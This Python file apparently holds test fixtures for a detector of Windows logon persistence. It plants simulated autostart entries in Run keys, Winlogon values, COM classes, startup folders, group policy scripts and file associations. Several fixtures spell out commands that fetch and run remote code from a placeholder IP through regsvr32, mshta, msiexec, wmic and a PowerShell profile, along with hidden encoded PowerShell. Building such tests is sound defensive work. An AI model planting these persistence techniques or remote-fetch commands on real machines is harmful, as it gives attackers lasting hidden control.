"""What starts by itself at a logon: keys, folders, associations, policies, and the ways from a name to a program."""
import struct

from windows_disk import *

change = Changes()
CHECK, DEBUGGERS = 'WIN-PERSIST-001', 'WIN-PERSIST-002'
RUN = rf'{CURRENT}\Run'
EVIL, LIBRARY = r'C:\ProgramData\x\x.exe', r'C:\ProgramData\x\x.dll'
STARTUP = r'ProgramData\Microsoft\Windows\Start Menu\Programs\Startup'
WINLOGON = rf'{NT}\Winlogon'
CLASS = '{DEADBEEF-1111-2222-3333-444455556666}'
PAYLOADS = (EVIL, LIBRARY)


def autostart(name, why, command, *programs, place='Run', key=RUN, entry='updater', kind=SZ, hive='SOFTWARE', files=(), more=None, check=CHECK):
    """A command that starts by itself; Windows' `programs` that it needs are there, and so is the payload that it names."""
    def make(d):
        d.windows(*programs)
        for path in PAYLOADS:
            if any(path in text for text in (command, *dict(files).values())):
                d.foreign(path)
        for path, data in files:
            d.put(path, data)
        if more:
            more(d)
        d.value(hive, key, entry, kind, command)
    change.row(name, why, check, place, make)


# --- programs of Windows that carry a payload: they are signed, and it is not ---
autostart('unsigned-program', 'Run starts its commands at each logon.', EVIL, place='x.exe')
autostart('payload-by-cmd', 'start of cmd.exe starts what follows.', f'cmd.exe /c start {EVIL}', 'cmd.exe', place='x.exe')
autostart('payload-by-rundll32', 'rundll32.exe calls a function of any library.', f'rundll32.exe {LIBRARY},Go', 'rundll32.exe', place='x.dll')
autostart('payload-by-rundll32-and-number', 'A function has a number, too; quotes and blanks may stand between.', f'rundll32.exe "{LIBRARY}" , #1', 'rundll32.exe', place='x.dll')
autostart('script-by-rundll32', 'mshtml runs the script that follows javascript:.', r'rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";x()', 'rundll32.exe',
          place='rundll32')
autostart('payload-by-regsvr32', 'regsvr32.exe calls DllRegisterServer of any library.', f'regsvr32 /s {LIBRARY}', 'regsvr32.exe', place='x.dll')
autostart('script-by-regsvr32', 'scrobj.dll fetches a script from afar (/i:).', 'regsvr32 /s /n /u /i:http://203.0.113.7/x.sct scrobj.dll', 'regsvr32.exe', place='regsvr32')
autostart('page-by-mshta', 'mshta.exe runs the scripts of a page.', 'mshta http://203.0.113.7/x.hta', 'mshta.exe', place='mshta')
autostart('encoded-powershell', 'PowerShell takes its script in base64.', 'powershell -w hidden -enc SQBFAFgA', r'WindowsPowerShell\v1.0\powershell.exe', place='powershell')
autostart('encoded-powershell-with-another-dash', 'PowerShell takes a dash of Unicode for one of its options.', 'powershell.exe -w hidden \u2013ec SQBFAFgA',
          r'WindowsPowerShell\v1.0\powershell.exe',
          place='powershell')
autostart('script-by-wscript', 'wscript.exe runs a script of any name (//E:).', r'wscript.exe //E:vbscript C:\ProgramData\x\x.log', 'wscript.exe', place='x.log',
          files=[(r'ProgramData\x\x.log', 'CreateObject("WScript.Shell").Run "calc"')])
autostart('package-by-msiexec', 'msiexec.exe fetches a package and runs its actions.', 'msiexec /q /i http://203.0.113.7/x.msi', 'msiexec.exe', place='msiexec')
autostart('payload-by-forfiles', 'forfiles.exe runs a command for each file that it finds.', f'forfiles /p C:\\Windows /m notepad.exe /c {EVIL}', 'forfiles.exe', place='x.exe')
autostart('payload-by-pcalua', 'pcalua.exe -a starts a program.', f'pcalua.exe -a {EVIL}', 'pcalua.exe', place='x.exe')
autostart('payload-by-conhost', 'conhost.exe starts the program that it is given.', f'conhost.exe {EVIL}', 'conhost.exe', place='x.exe')
autostart('payload-by-explorer', 'explorer.exe opens what it is given: a program is started.', f'explorer.exe "{EVIL}"', place='x.exe')
autostart('payload-by-odbcconf', 'odbcconf.exe registers a library (REGSVR).', f'odbcconf /a {{REGSVR {LIBRARY}}}', 'odbcconf.exe', place='x.dll')
autostart('payload-by-installutil', 'InstallUtil.exe runs the installers of an assembly.', rf'C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe /U {LIBRARY}', place='x.dll',
          more=lambda d: d.honest(r'C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe'))
autostart('project-by-msbuild', 'MSBuild.exe compiles and runs tasks of a project.', r'C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe C:\ProgramData\x\x.csproj', place='x.csproj',
          files=[(r'ProgramData\x\x.csproj', '<Project><Target Name="x"><Exec Command="calc"/></Target></Project>')],
          more=lambda d: d.honest(r'C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe'))
autostart('command-by-wmic', 'wmic.exe makes processes (process call create).', f'wmic process call create "{EVIL}"', r'wbem\wmic.exe', place='x.exe')
autostart('stylesheet-by-wmic', 'A stylesheet of wmic.exe holds scripts (/format:).', 'wmic os get /format:"http://203.0.113.7/x.xsl"', r'wbem\wmic.exe', place='wmic')
autostart('payload-by-control', 'control.exe loads a library as an item of the control panel.', f'control.exe {LIBRARY}', 'control.exe', place='x.dll')
autostart('settings-by-cmstp', 'cmstp.exe runs the section RunPreSetupCommands of its file.', r'cmstp.exe /s C:\ProgramData\x\x.inf', 'cmstp.exe', place='x.inf',
          files=[(r'ProgramData\x\x.inf', '[version]\r\nSignature=$chicago$\r\n[DefaultInstall_SingleUser]\r\nRunPreSetupCommands=a\r\n[a]\r\ncalc\r\n')])
autostart('usual-command-behind-a-payload', 'The first word is the program, whatever follows.',
          rf'{EVIL} "C:\Windows\System32\rundll32.exe" C:\Windows\System32\mscories.dll,Install', place='x.exe')
autostart('script-of-unknown-commands', 'cmd.exe runs each line.', r'C:\ProgramData\x\x.bat', 'cmd.exe', place='x.bat', files=[(r'ProgramData\x\x.bat', f'@"{EVIL}" /x\r\n')])

# --- from a name to a program ---
autostart('name-by-app-paths', 'The shell looks a name up in App Paths before the folders of Path.', 'tool.exe', place='tool.exe',
          more=lambda d: (d.foreign(EVIL), d.software(rf'{CURRENT}\App Paths\tool.exe', '', SZ, EVIL)))


@change(CHECK, 'tool.exe')
def name_by_the_order_of_path(d):
    """cmd.exe takes the program of the first folder of Path that has the name."""
    d.windows('cmd.exe')
    d.foreign(r'C:\ProgramData\bin\tool.exe')
    d.honest(r'C:\Program Files\App\tool.exe')
    d.system(rf'{SESSION}\Environment', 'Path', EXPAND, r'C:\ProgramData\bin;%SystemRoot%\system32;%SystemRoot%;C:\Program Files\App')
    d.software(RUN, 'updater', SZ, 'cmd.exe /c tool.exe')


@change(CHECK, 'tool.exe')
def name_in_the_last_of_many_folders(d):
    """However many folders Path has, cmd.exe looks into all of them."""
    d.windows('cmd.exe')
    d.foreign(r'C:\ProgramData\bin\tool.exe')
    folders = ';'.join(rf'C:\Tools\{i}' for i in range(400))
    d.system(rf'{SESSION}\Environment', 'Path', EXPAND, rf'%SystemRoot%\system32;%SystemRoot%;{folders};C:\ProgramData\bin')
    d.software(RUN, 'updater', SZ, 'cmd.exe /c tool.exe')


BLANKS = r'C:\ProgramData' + '\\' + 'x ' * 100 + 'x'
autostart('program-behind-many-blanks', 'Windows looks for a program without quotation marks up to each blank.', rf'{BLANKS}\x.exe /q', place='x.exe',
          more=lambda d: d.foreign(rf'{BLANKS}\x.exe'))


@change(CHECK, 'tool.com')
def name_by_the_order_of_endings(d):
    """Of tool.com and tool.exe the first in PATHEXT is started by cmd.exe."""
    d.windows('cmd.exe')
    d.foreign(r'C:\Windows\System32\tool.com')
    d.windows('tool.exe')
    d.software(RUN, 'updater', SZ, 'cmd.exe /c tool')


autostart('variable-of-the-machine', 'Variables of the machine are put into commands.', r'%kit%\x.exe', place='x.exe', kind=EXPAND,
          more=lambda d: (d.foreign(r'C:\ProgramData\kit\x.exe'), d.system(rf'{SESSION}\Environment', 'kit', SZ, r'C:\ProgramData\kit')))
autostart('variable-of-the-user', 'A user\'s variable comes before the machine\'s, even windir.', r'%windir%\System32\svchost.exe', place='windir', kind=EXPAND,
          key=rf'Software\{RUN}', hive='ADMINISTRATOR',
          more=lambda d: (d.foreign(r'C:\ProgramData\kit\System32\svchost.exe'), d.user('Environment', 'windir', SZ, r'C:\ProgramData\kit')))
autostart('program-in-a-stream', 'A named stream is started by CreateProcess.', r'C:\Windows\notes.txt:x.exe', place='notes.txt',
          more=lambda d: (d.put(r'C:\Windows\notes.txt', 'x'), d.stream(r'C:\Windows\notes.txt', 'x.exe', program('x.exe'))))


@change(CHECK, 'System32/notepad.exe')
def system_program_replaced(d):
    """A program of Windows under its own name, which nobody signed."""
    d.foreign(r'C:\Windows\System32\notepad.exe')
    d.software(RUN, 'updater', EXPAND, r'%SystemRoot%\System32\notepad.exe')


@change(CHECK, 'update.exe')
def listed_program_under_another_name(d):
    """A shell that a catalog of Windows lists, copied: it runs what it is told under a name that nobody looks for."""
    d.put(r'C:\ProgramData\x\update.exe', d.read(r'Windows\explorer.exe'))
    d.foreign(EVIL)
    d.software(RUN, 'updater', SZ, rf'C:\ProgramData\x\update.exe {EVIL}')


# --- other keys of the machine and of users ---
def key(name, why, where, entry, command=EVIL, **more):
    autostart(name, why, command, key=where, entry=entry, place=more.pop('place', entry), **more)


key('run-once', 'RunOnce starts a command once.', rf'{CURRENT}\RunOnce', 'updater')
key('run-once-extended', 'RunOnceEx takes title|command lines of its subkeys.', rf'{CURRENT}\RunOnceEx\001', '1', place='RunOnceEx')
key('library-of-run-once', 'Depend of RunOnceEx names libraries to load.', rf'{CURRENT}\RunOnceEx\001\Depend', '1', LIBRARY, place='RunOnceEx')
key('run-of-32-bits', 'Programs of 32 bits see another key, and it starts as well.', rf'Wow6432Node\{CURRENT}\Run', 'updater')
key('run-by-policy', 'A policy has a Run of its own.', rf'{CURRENT}\Policies\Explorer\Run', '1', place='Policies')
key('run-of-the-user', 'The user\'s Run starts at the user\'s logon.', rf'Software\{CURRENT}\Run', 'updater', hive='ADMINISTRATOR')
key('run-of-later-users', 'Each new profile is a copy of Default.', rf'Software\{CURRENT}\Run', 'updater', hive=r'Users\Default\NTUSER.DAT')
key('run-of-a-session', 'Terminal Server copies this key into each new profile.', rf'{NT}\Terminal Server\Install\Software\{CURRENT}\Run', 'updater')
key('run-of-the-old-file', 'Run of win.ini stands in this key.', rf'Software\{NT}\Windows', 'Run', hive='ADMINISTRATOR')
key('load-of-the-old-file', 'Load of win.ini stands in this key.', rf'Software\{NT}\Windows', 'Load', hive='ADMINISTRATOR')
key('second-shell', 'winlogon.exe starts each program of Shell.', WINLOGON, 'Shell', f'explorer.exe, {EVIL}')
key('second-userinit', 'winlogon.exe starts each program of Userinit.', WINLOGON, 'Userinit', rf'C:\Windows\system32\userinit.exe,{EVIL}')
key('shell-of-the-user', 'A user has a shell of its own.', rf'Software\{WINLOGON}', 'Shell', hive='ADMINISTRATOR')
key('shell-by-policy', 'The policy\'s shell comes first.', rf'{CURRENT}\Policies\System', 'Shell')
key('task-manager-of-the-logon', 'Taskman is started with the shell.', WINLOGON, 'Taskman')
key('set-up-of-the-logon', 'AppSetup is started with Userinit.', WINLOGON, 'AppSetup')
key('script-of-the-logon', 'userinit.exe runs UserInitMprLogonScript.', 'Environment', 'UserInitMprLogonScript', hive='ADMINISTRATOR')
key('saver-of-the-screen', 'The saver is a program, started where nobody moves.', r'Control Panel\Desktop', 'SCRNSAVE.EXE', hive='ADMINISTRATOR', place='x.exe')
key('active-set-up', 'StubPath runs once for each user.', r'Microsoft\Active Setup\Installed Components\{A0000000-1111-2222-3333-444444444444}', 'StubPath')
key('program-of-the-session', 'The policy\'s InitialProgram is started in each session.', r'Policies\Microsoft\Windows NT\Terminal Services', 'InitialProgram')
key('autorun-of-cmd', 'cmd.exe runs AutoRun each time it starts.', r'Microsoft\Command Processor', 'AutoRun')
key('libraries-of-every-program', 'user32.dll loads AppInit_DLLs.', rf'{NT}\Windows', 'AppInit_DLLs', LIBRARY,
    more=lambda d: d.software(rf'{NT}\Windows', 'LoadAppInit_DLLs', DWORD, 1))
key('library-of-every-start', 'CreateProcess loads AppCertDlls.', rf'{SESSION}\AppCertDlls', 'x', LIBRARY, hive='SYSTEM', place='AppCertDlls')
key('telemetry', 'CompatTelRunner.exe runs the commands of this key.', rf'{NT}\AppCompatFlags\TelemetryController\x', 'Command', check=DEBUGGERS)
key('programs-of-every-file', 'exefile is what starts an .exe.', r'Classes\exefile\shell\open\command', '', f'{EVIL} "%1" %*', place='exefile')
key('programs-of-scripts', 'batfile is what starts a .bat, also of the autostarts.', r'Classes\batfile\shell\open\command', '', f'{EVIL} "%1" %*', place='batfile')
key('programs-of-files-for-the-user', 'Classes of the user come before those of the machine.', r'Software\Classes\exefile\shell\open\command', '', f'{EVIL} "%1" %*',
    hive='ADMINISTRATOR', place='exefile')


# --- classes ---
def loaded(name, why, where, entry, text=CLASS, place=LIBRARY[-5:], hive='SOFTWARE', classes=r'Classes\CLSID', server='SOFTWARE'):
    def make(d):
        d.com(CLASS, d.foreign(LIBRARY), server, classes)
        d.value(hive, where, entry, SZ, text)
    change.row(name, why, CHECK, place, make)


loaded('object-of-the-shell', 'explorer.exe makes the objects of this key.', rf'{CURRENT}\ShellServiceObjectDelayLoad', 'u')
loaded('hook-of-the-shell', 'The shell asks hooks before it starts anything.', rf'{CURRENT}\Explorer\ShellExecuteHooks', CLASS, '')
loaded('icon-of-the-shell', 'explorer.exe loads overlays of icons.', rf'{CURRENT}\Explorer\ShellIconOverlayIdentifiers\x', '')
loaded('task-of-the-shell', 'SharedTaskScheduler is loaded by explorer.exe.', rf'{CURRENT}\Explorer\SharedTaskScheduler', CLASS, 'x')


@change(CHECK, 'x.dll')
def class_of_the_user(d):
    """A class of the user's hive comes before the machine's: MMDeviceEnumerator is made by most programs."""
    d.com('{BCDE0395-E52F-467C-8E3D-C4579291692E}', d.foreign(LIBRARY), r'Users\Administrator\AppData\Local\Microsoft\Windows\UsrClass.dat', 'CLSID')


@change(CHECK, 'x.dll')
def class_treated_as_another(d):
    """TreatAs sends whoever makes the one class to the other."""
    d.com(CLASS, d.foreign(LIBRARY))
    d.user(r'Software\Classes\CLSID\{BCDE0395-E52F-467C-8E3D-C4579291692E}\TreatAs', '', SZ, CLASS)


# --- folders ---
def startup(name, why, file, data, more=None, folder=STARTUP):
    def make(d):
        if more:
            more(d)
        d.put(rf'{folder}\{file}', data)
    change.row(name, why, CHECK, file, make)


POWERSHELL = r'WindowsPowerShell\v1.0\powershell.exe'
startup('link-to-a-payload', 'explorer.exe opens each file of the folder at the logon.', 'a.lnk', link(EVIL), lambda d: d.foreign(EVIL))
startup('link-with-a-script', 'A link has arguments; its program is signed.', 'a.lnk', link(rf'C:\Windows\System32\{POWERSHELL}', '-w hidden -enc SQBFAFgA'),
        lambda d: d.windows(POWERSHELL))
startup('link-by-its-items', 'A link may name its target in its list of items alone.', 'a.lnk', link(items=EVIL), lambda d: d.foreign(EVIL))
startup('script-of-startup', 'A script of the folder is run by its ending.', 'a.bat', 'powershell -enc SQBFAFgA\r\n')
startup('address-of-startup', 'A link of the web may lead to a file.', 'a.url', f'[InternetShortcut]\r\nURL=file:///{EVIL}\r\n', lambda d: d.foreign(EVIL))
startup('startup-of-the-user', 'Each user has such a folder.', 'x.exe', program('x.exe'),
        folder=r'Users\Administrator\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup')


@change(CHECK, 'x.exe')
def startup_elsewhere(d):
    """Startup is where User Shell Folders has it."""
    d.foreign(r'C:\ProgramData\su\x.exe')
    d.software(rf'{CURRENT}\Explorer\User Shell Folders', 'Common Startup', EXPAND, r'C:\ProgramData\su')


# --- policies ---
def policy(name, why, scope, file, section, command='x.exe'):
    def make(d):
        d.foreign(EVIL)
        d.put(rf'Windows\System32\GroupPolicy\{scope}\Scripts\{file}', b'\xff\xfe' + f'[{section}]\r\n0CmdLine={EVIL}\r\n0Parameters=\r\n'.encode('utf-16-le'))
    change.row(name, why, CHECK, 'x.exe', make)


policy('script-of-the-machines-start', 'The client of group policies runs scripts.ini at the start.', 'Machine', 'scripts.ini', 'Startup')
policy('script-of-every-logon', 'The user\'s scripts.ini runs at the logon.', 'User', 'scripts.ini', 'Logon')
policy('powershell-of-the-machines-start', 'psscripts.ini is the same for PowerShell.', 'Machine', 'psscripts.ini', 'Startup')


@change(CHECK, 'Script')
def script_of_the_policies_state(d):
    """gpscript.exe runs what the state of the policies lists."""
    d.software(rf'{CURRENT}\Group Policy\State\Machine\Scripts\Startup\0\0', 'Script', SZ, d.foreign(EVIL))


def registry_pol(name, why, key, place, scope='Machine', **values):
    data = registry_policy(*((key, value, SZ, wide(text)) for value, text in values.items()))
    change.row(name, why, CHECK, place, lambda d: d.put(rf'Windows\System32\GroupPolicy\{scope}\Registry.pol', data))


registry_pol('logon-by-a-policy', 'The client of group policies writes each value of Registry.pol, wherever it belongs.', rf'Software\{NT}\Winlogon', 'AutoAdminLogon',
             AutoAdminLogon='1', DefaultUserName='Administrator', DefaultPassword='x')
registry_pol('task-by-a-policy', 'A task is a key of the cache of tasks.', rf'Software\{NT}\Schedule\TaskCache\Tasks\{{AAAAAAAA-1111-2222-3333-444455556666}}', 'TaskCache',
             Path=r'\Upd')
registry_pol('class-of-a-user-by-a-policy', 'The policy of users is written to each user\'s hive.',
             r'Software\Classes\CLSID\{BCDE0395-E52F-467C-8E3D-C4579291692E}\InprocServer32', 'InprocServer32', 'User', ThreadingModel='Both')

# --- folders that lead elsewhere ---
change.row('programs-moved', 'ProgramFilesDir says what %ProgramFiles% is.', CHECK, 'ProgramFilesDir', lambda d: d.software(CURRENT, 'ProgramFilesDir', SZ, r'C:\PF'))
change.row('data-moved', 'ProgramData of ProfileList says where the start-up folder of all users is.', CHECK, 'ProgramData',
           lambda d: d.software(rf'{NT}\ProfileList', 'ProgramData', EXPAND, r'C:\PD'))
change.row('profiles-of-a-policy', 'MachineProfilePath says where profiles are loaded from.', CHECK, 'MachineProfilePath',
           lambda d: d.software(r'Policies\Microsoft\Windows\System', 'MachineProfilePath', SZ, r'C:\PD\%USERNAME%'))
change.row('profile-elsewhere', 'CentralProfile is the profile that the one on the disk is updated from.', CHECK, 'CentralProfile', lambda d: d.software(
    rf'{NT}\ProfileList\S-1-5-21-1111111111-2222222222-3333333333-500', 'CentralProfile', SZ, r'C:\PD\roam'))
change.row('program-that-anybody-may-put', 'Users make folders below ProgramData: whoever puts the program there is started by the next administrator.', CHECK, 'upd.exe',
           lambda d: d.software(rf'{CURRENT}\Run', 'u', SZ, r'C:\ProgramData\upd\upd.exe'))
change.row('command-of-provisioning', 'provlaunch.exe runs the commands of this key.', CHECK, 'x.exe', lambda d: d.software(
    r'Microsoft\Provisioning\Commands\X\Y', 'Commandline', SZ, d.foreign(EVIL)))

# --- profiles of shells ---
change.row('profile-of-powershell', 'PowerShell runs profile.ps1 each time it starts.', CHECK, 'profile.ps1',
           lambda d: (d.windows(POWERSHELL), d.put(r'Windows\System32\WindowsPowerShell\v1.0\profile.ps1', 'iex (iwr http://203.0.113.7/a)\r\n')))


# --- start-up folders by the folders above them ---
def moved(name, why, folder, hive, key, entry, text):
    change.row(name, why, CHECK, 'x.exe', lambda d: (d.foreign(rf'{folder}\x.exe'), d.value(hive, key, entry, EXPAND, text)))


SHELL = rf'{CURRENT}\Explorer'
moved('startup-by-its-description', 'The description of a known folder says where it is.', r'C:\ProgramData\s', 'SOFTWARE',
      rf'{SHELL}\FolderDescriptions\{{82A5EA35-D9CD-47C5-9629-E15D2F714E6E}}', 'RelativePath', 's')
change['startup-by-its-description'].make = lambda d: (d.foreign(r'C:\ProgramData\s\x.exe'), [
    d.software(rf'{SHELL}\FolderDescriptions\{{82A5EA35-D9CD-47C5-9629-E15D2F714E6E}}', entry, SZ, text)
    for entry, text in (('RelativePath', 's'), ('ParentFolder', '{62AB5D82-FDC1-4DC3-A9DD-070D1D495D97}'))])
moved('startup-by-the-folder-of-programs', 'Startup is in the folder of programs, wherever that is.', r'C:\ProgramData\p\Startup', 'SOFTWARE',
      rf'{SHELL}\User Shell Folders', 'Common Programs', r'C:\ProgramData\p')
moved('startup-by-the-data-of-a-user', 'Startup is below AppData, wherever that is.', r'C:\ProgramData\p\Microsoft\Windows\Start Menu\Programs\Startup', 'ADMINISTRATOR',
      r'Software\Microsoft\Windows\CurrentVersion\Explorer\User Shell Folders', 'AppData', r'C:\ProgramData\p')
moved('startup-by-the-data-of-programs', 'ProgramData is where the list of profiles says.', r'C:\x\Microsoft\Windows\Start Menu\Programs\Startup', 'SOFTWARE',
      rf'{NT}\ProfileList', 'ProgramData', r'C:\x')
autostart('program-of-text-files', 'Who opens a text starts it.', rf'"{EVIL}" "%1"', place='x.exe', key=r'Classes\txtfile\shell\open\command', entry='', kind=EXPAND)
autostart('program-of-addresses', 'Who opens an address starts it.', rf'"{EVIL}" "%1"', place='x.exe', key=r'Classes\http\shell\open\command', entry='')
autostart('processor-of-another-machine', 'Programs of other machines are run by the library that is named here.', LIBRARY, place='x.dll', key=r'Microsoft\Wow64\arm', entry='')

# --- variables that lead programs elsewhere ---
for entry, why, text in (('HTTPS_PROXY', 'Agents send what they have to say by this host.', 'http://203.0.113.7:3128'),
                         ('SSLKEYLOGFILE', 'Programs write the keys of their connections there.', r'C:\ProgramData\keys.log'),
                         ('CURL_CA_BUNDLE', 'Programs trust the authorities of that file.', r'C:\ProgramData\ca.pem'),
                         ('REQUESTS_CA_BUNDLE', 'Python programs trust the authorities of that file.', r'C:\ProgramData\ca.pem'),
                         ('NODE_TLS_REJECT_UNAUTHORIZED', 'Node trusts whoever answers.', '0'),
                         ('BASH_ENV', 'bash runs that file before each script.', r'C:\ProgramData\x.sh')):
    change.row(f'variable-{entry.lower().replace("_", "-")}', why, CHECK, entry, lambda d, entry=entry, text=text: d.system(rf'{SESSION}\Environment', entry, SZ, text))


@change(CHECK, 'x.exe')
def link_whose_first_program_is_missing(d):
    """A link has a path with variables, and a list of items that Windows follows where there is no such file."""
    d.put(rf'{STARTUP}\Update.lnk', link(items=d.foreign(EVIL), variables=r'%SystemRoot%\System32\nothere.exe'))


@change(CHECK, 'ScheduledTasks.xml')
def preferences_of_a_policy(d):
    """Preferences of group policies make tasks; their files are kept there."""
    d.put(r'ProgramData\Microsoft\Group Policy\History\{31B2F340-016D-11D2-945F-00C04FB984F9}\Machine\Preferences\ScheduledTasks\ScheduledTasks.xml',
          r'<ScheduledTasks><TaskV2 name="x"><Properties action="C"><Task><Actions><Exec><Command>C:\x.exe</Command></Exec></Actions></Task></Properties></TaskV2></ScheduledTasks>')


# --- what a user opens ---
MENU = r'ProgramData\Microsoft\Windows\Start Menu\Programs'


def opened(name, why, path, data, make):
    change.row(name, why, CHECK, path.rsplit('\\', 1)[1], lambda d: (make(d), d.put(path, data)))


opened('tool-of-the-start-menu', 'A link of the start menu is opened by its name; PowerShell does what the arguments say.', rf'{MENU}\Administrative Tools\Server Manager.lnk',
       link(rf'C:\Windows\System32\{POWERSHELL}', '-w hidden -enc SQBFAFgA'), lambda d: d.windows(POWERSHELL))
opened('tool-of-the-desktop', 'A link that is named like a tool of Windows starts another program.', r'Users\Administrator\Desktop\Task Manager.lnk', link(EVIL), lambda d: d.foreign(EVIL))
opened('link-of-the-bar-of-tasks', 'The bar of tasks shows the links of a folder of the profile.',
       r'Users\Administrator\AppData\Roaming\Microsoft\Internet Explorer\Quick Launch\User Pinned\TaskBar\Browser.lnk',
       link(rf'C:\Windows\System32\{POWERSHELL}', '-w hidden -enc SQBFAFgA'), lambda d: d.windows(POWERSHELL))
opened('command-of-the-ssh-client', 'ssh.exe starts ProxyCommand at each connection.', r'ProgramData\ssh\ssh_config', f'Host *\n ProxyCommand {EVIL}\n', lambda d: d.foreign(EVIL))
opened('command-of-a-users-ssh-client', 'Match exec runs its command.', r'Users\Administrator\.ssh\config', f'Match host * exec "{EVIL}"\n', lambda d: d.foreign(EVIL))
opened('monitor-of-git', 'git.exe starts core.fsmonitor in each repository.', r'ProgramData\Git\config', '[core]\n\tfsmonitor = C:/ProgramData/x/x.exe\n', lambda d: d.foreign(EVIL))

# --- old files of settings ---
change.row('line-of-win-ini', 'Where the registry does not stand for the section, load= is read from the file.', CHECK, 'win.ini', lambda d: (
    d.foreign(EVIL), d.put(r'Windows\win.ini', f'[windows]\r\nload={EVIL}\r\n')))
change.row('settings-file-of-another-key', 'IniFileMapping says which key stands for the section.', CHECK, 'IniFileMapping', lambda d: d.software(
    rf'{NT}\IniFileMapping\win.ini\Windows', '', SZ, r'USR:Software\Contoso\Ini'))
